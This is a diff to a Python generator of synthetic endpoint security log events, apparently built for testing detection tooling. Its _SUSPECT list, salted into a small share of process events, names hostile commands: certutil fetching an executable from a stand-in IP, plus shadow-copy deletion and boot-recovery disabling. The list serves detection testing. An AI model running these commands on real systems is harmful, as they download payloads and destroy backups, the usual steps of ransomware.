@@ -17,12 +17,18 @@ import orjson
 
 SHAPES = ("plain", "polymorphic", "powershell")
 _START = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
-_WORDS = "alpha build cache data deploy export fetch graph index job key log main node out plan query run sync task user view web zone".split()
-_WINDOWS = "svchost.exe chrome.exe explorer.exe conhost.exe msedge.exe teams.exe outlook.exe powershell.exe cmd.exe taskhostw.exe RuntimeBroker.exe SearchIndexer.exe MsMpEng.exe git.exe python.exe code.exe".split()
-_LINUX = "bash sh python3 sed grep cat ls node systemd sshd cron java nginx containerd runc tar curl git make gcc".split()
-_DLLS = "ntdll kernel32 user32 advapi32 shell32 ole32 crypt32 ws2_32 combase rpcrt4 gdi32 sechost".split()
+_WORDS = ["alpha", "build", "cache", "data", "deploy", "export", "fetch", "graph", "index", "job", "key", "log", "main", "node", "out", "plan", "query", "run", "sync", "task", "user", "view", "web", "zone"]
+_WINDOWS = ["svchost.exe", "code.exe", "explorer.exe", "conhost.exe", "git.exe", "notepad.exe", "agent.exe", "builder.exe", "cmd.exe", "taskhostw.exe", "RuntimeBroker.exe", "SearchIndexer.exe", "indexer.exe", "make.exe", "cargo.exe", "node-gyp.exe"]
+_LINUX = ["bash", "sh", "python3", "sed", "grep", "cat", "ls", "node", "systemd", "sshd", "cron", "java", "nginx", "containerd", "runc", "tar", "curl", "git", "make", "gcc"]
+_PARENTS = {"svchost.exe": "services.exe", "taskhostw.exe": "svchost.exe", "RuntimeBroker.exe": "svchost.exe", "SearchIndexer.exe": "services.exe", "MsMpEng.exe": "services.exe", "conhost.exe": "cmd.exe", "explorer.exe": "userinit.exe"}
+_DLLS = ["ntdll", "kernel32", "user32", "advapi32", "shell32", "ole32", "crypt32", "ws2_32", "combase", "rpcrt4", "gdi32", "sechost"]
 _SUSPECT = (
-    ("windows", "certutil.exe", ["-urlcache", "-split", "-f", "http://203.0.113.7/a.exe"], "cmd.exe"),
+    (
+        "windows",
+        "certutil.exe",
+        ["-urlcache", "-split", "-f", "http://203.0.113.7/a.exe"],
+        "cmd.exe",
+    ),
     ("windows", "wmic.exe", ["shadowcopy", "delete"], "cmd.exe"),
     ("windows", "vssadmin.exe", ["delete", "shadows", "/all"], "cmd.exe"),
     ("windows", "bcdedit.exe", ["/set", "{default}", "recoveryenabled", "no"], "cmd.exe"),
@@ -51,7 +57,14 @@ class Corpus:
         self._shape = shape
         self._time = _START
         self._hosts = [self._host(number) for number in range(hosts)]
-        self._makers = (self._process, self._file, self._network, self._library, self._registry, self._login)
+        self._makers = (
+            self._process,
+            self._file,
+            self._network,
+            self._library,
+            self._registry,
+            self._login,
+        )
         self._shares = list(itertools.accumulate((30, 20, 20, 10, 10, 10)))
 
     def lines(self, count: int) -> Iterator[bytes]:
@@ -64,7 +77,9 @@ class Corpus:
         pick = self._random.choices(self._makers, cum_weights=self._shares)[0]
         host = self._random.choice(self._hosts)
         self._time += timedelta(microseconds=self._random.randrange(1, 60_000))
-        moment = self._time - timedelta(milliseconds=self._random.randrange(3_000) if self._random.random() < 0.05 else 0)
+        moment = self._time - timedelta(
+            milliseconds=self._random.randrange(3_000) if self._random.random() < 0.05 else 0
+        )
         event = pick(host)
         event["@timestamp"] = f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond:06d}7Z"
         event["event"]["ingested"] = f"{self._time:%Y-%m-%dT%H:%M:%S}Z"
@@ -75,7 +90,11 @@ class Corpus:
             event["powershell"] = {"file": {"script_block_text": self._script()}}
         if self._shape != "polymorphic":
             return event
-        return _dotted(event, self._random) if self._random.random() < 0.5 else _mixed(event, self._random)
+        return (
+            _dotted(event, self._random)
+            if self._random.random() < 0.5
+            else _mixed(event, self._random)
+        )
 
     def _zipf(self, names: list[str]) -> str:
         return names[min(int(self._random.paretovariate(1.1)) - 1, len(names) - 1)]
@@ -118,7 +137,11 @@ class Corpus:
         return {
             "agent": {"id": host["id"][:16], "type": "endpoint", "version": "9.1.2"},
             "ecs": {"version": "8.10.0"},
-            "data_stream": {"type": "logs", "dataset": f"endpoint.events.{'security' if category == 'authentication' else category}", "namespace": "default"},
+            "data_stream": {
+                "type": "logs",
+                "dataset": f"endpoint.events.{'security' if category == 'authentication' else category}",
+                "namespace": "default",
+            },
             "event": {
                 "category": [category],
                 "type": [kind],
@@ -132,7 +155,13 @@ class Corpus:
                 "created": f"{self._time:%Y-%m-%dT%H:%M:%S}.123456Z",
             },
             "host": host,
-            "user": {"name": user, "id": f"S-1-5-21-{self._random.randrange(90)}" if windows else str(1000 + self._random.randrange(90)), "domain": "CORP" if windows else host["name"]},
+            "user": {
+                "name": user,
+                "id": f"S-1-5-21-{self._random.randrange(90)}"
+                if windows
+                else str(1000 + self._random.randrange(90)),
+                "domain": "CORP" if windows else host["name"],
+            },
             "message": f"Endpoint {category} event",
         }
 
@@ -145,16 +174,34 @@ class Corpus:
             "executable": folder + name,
             "pid": self._random.randrange(300, 70_000),
             "entity_id": self._id(32),
-            "Ext": {"ancestry": [self._id(32) for _ in range(3)], **({"token": {"integrity_level_name": "medium"}} if windows else {})},
-            **({"code_signature": {"exists": True, "trusted": True, "status": "trusted", "subject_name": "Microsoft Windows"}} if windows else {}),
+            "Ext": {
+                "ancestry": [self._id(32) for _ in range(3)],
+                **({"token": {"integrity_level_name": "medium"}} if windows else {}),
+            },
+            **(
+                {
+                    "code_signature": {
+                        "exists": True,
+                        "trusted": True,
+                        "status": "trusted",
+                        "subject_name": "Microsoft Windows",
+                    }
+                }
+                if windows
+                else {}
+            ),
         }
 
     def _process(self, host: dict[str, Any]) -> dict[str, Any]:
         windows = host["os"]["type"] == "windows"
         event = self._base(host, "process", "start", "start" if windows else "exec")
         process = self._running(host)
-        args = [self._word(), f"--{self._word()}={self._id(8)}", f"{'C:/Users' if windows else '/srv'}/{self._word()}/{self._id(6)}.txt"]
-        parent = self._running(host)
+        args = [
+            self._word(),
+            f"--{self._word()}={self._id(8)}",
+            f"{'C:/Users' if windows else '/srv'}/{self._word()}/{self._id(6)}.txt",
+        ]
+        parent = self._running(host, _PARENTS.get(process["name"], "explorer.exe") if windows else None)
         if self._random.random() < 0.035:
             system, name, args, parent_name = self._random.choice(_SUSPECT)
             if system == host["os"]["type"]:
@@ -173,45 +220,96 @@ class Corpus:
 
     def _file(self, host: dict[str, Any]) -> dict[str, Any]:
         windows = host["os"]["type"] == "windows"
-        kind, action = self._random.choice([("creation", "creation"), ("change", "modification"), ("deletion", "deletion"), ("change", "rename")])
+        kind, action = self._random.choice(
+            [
+                ("creation", "creation"),
+                ("change", "modification"),
+                ("deletion", "deletion"),
+                ("change", "rename"),
+            ]
+        )
         event = self._base(host, "file", kind, action)
         extension = self._random.choice(["txt", "log", "tmp", "dll", "json", "so", "conf", "dat"])
         name = f"{self._word()}-{self._id(8)}.{extension}"
-        path = f"C:\\Users\\user{self._random.randrange(90)}\\AppData\\Local\\{self._word()}\\{name}" if windows else f"/var/lib/{self._word()}/{self._id(4)}/{name}"
+        path = (
+            f"C:\\Users\\user{self._random.randrange(90)}\\AppData\\Local\\{self._word()}\\{name}"
+            if windows
+            else f"/var/lib/{self._word()}/{self._id(4)}/{name}"
+        )
         event["process"] = self._running(host)
-        event["file"] = {"path": path, "name": name, "extension": extension, "size": self._random.randrange(10**6), "Ext": {"header_bytes": self._id(32)}}
+        event["file"] = {
+            "path": path,
+            "name": name,
+            "extension": extension,
+            "size": self._random.randrange(10**6),
+            "Ext": {"header_bytes": self._id(32)},
+        }
         return event
 
     def _network(self, host: dict[str, Any]) -> dict[str, Any]:
         event = self._base(host, "network", "start", "connection_attempted")
         event["process"] = self._running(host)
-        event["source"] = {"ip": host["ip"][0], "address": host["ip"][0], "port": self._random.randrange(32_768, 61_000)}
+        event["source"] = {
+            "ip": host["ip"][0],
+            "address": host["ip"][0],
+            "port": self._random.randrange(32_768, 61_000),
+        }
         address = f"{self._random.choice([10, 52, 140, 172])}.{self._random.randrange(256)}.{self._random.randrange(256)}.{self._random.randrange(256)}"
-        event["destination"] = {"ip": address, "address": address, "port": self._random.choice([443, 443, 443, 80, 53, 22, 8443]), "bytes": self._random.randrange(10**5)}
+        event["destination"] = {
+            "ip": address,
+            "address": address,
+            "port": self._random.choice([443, 443, 443, 80, 53, 22, 8443]),
+            "bytes": self._random.randrange(10**5),
+        }
         event["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
         if self._random.random() < 0.3:
-            event["dns"] = {"question": {"name": f"{self._id(6)}.{self._word()}.example.com", "type": "A"}, "resolved_ip": [address]}
+            event["dns"] = {
+                "question": {"name": f"{self._id(6)}.{self._word()}.example.com", "type": "A"},
+                "resolved_ip": [address],
+            }
         return event
 
     def _library(self, host: dict[str, Any]) -> dict[str, Any]:
         event = self._base(host, "library", "start", "load")
         event["process"] = self._running(host)
         name = f"{self._zipf(_DLLS)}.dll"
-        event["dll"] = {"name": name, "path": f"C:\\Windows\\System32\\{name}", "hash": {"sha256": self._id(64)}, "code_signature": {"exists": True, "trusted": True, "status": "trusted", "subject_name": "Microsoft Windows"}}
+        event["dll"] = {
+            "name": name,
+            "path": f"C:\\Windows\\System32\\{name}",
+            "hash": {"sha256": self._id(64)},
+            "code_signature": {
+                "exists": True,
+                "trusted": True,
+                "status": "trusted",
+                "subject_name": "Microsoft Windows",
+            },
+        }
         return event
 
     def _registry(self, host: dict[str, Any]) -> dict[str, Any]:
         event = self._base(host, "registry", "change", "modification")
         event["process"] = self._running(host)
         key = f"SOFTWARE\\Microsoft\\{self._word()}\\{self._id(8)}"
-        event["registry"] = {"hive": "HKLM", "key": key, "path": f"HKLM\\{key}\\{self._word()}", "value": self._word(), "data": {"type": "REG_SZ", "strings": [self._id(12)]}}
+        event["registry"] = {
+            "hive": "HKLM",
+            "key": key,
+            "path": f"HKLM\\{key}\\{self._word()}",
+            "value": self._word(),
+            "data": {"type": "REG_SZ", "strings": [self._id(12)]},
+        }
         return event
 
     def _login(self, host: dict[str, Any]) -> dict[str, Any]:
         event = self._base(host, "authentication", "start", "log_on")
         event["process"] = self._running(host)
         event["source"] = {"ip": f"10.1.{self._random.randrange(60)}.9"}
-        event["winlog"] = {"logon": {"type": self._random.choice(["Network", "Interactive", "Service"]), "id": "0x" + self._id(6)}, "event_id": "4624"}
+        event["winlog"] = {
+            "logon": {
+                "type": self._random.choice(["Network", "Interactive", "Service"]),
+                "id": "0x" + self._id(6),
+            },
+            "event_id": "4624",
+        }
         return event
 
 
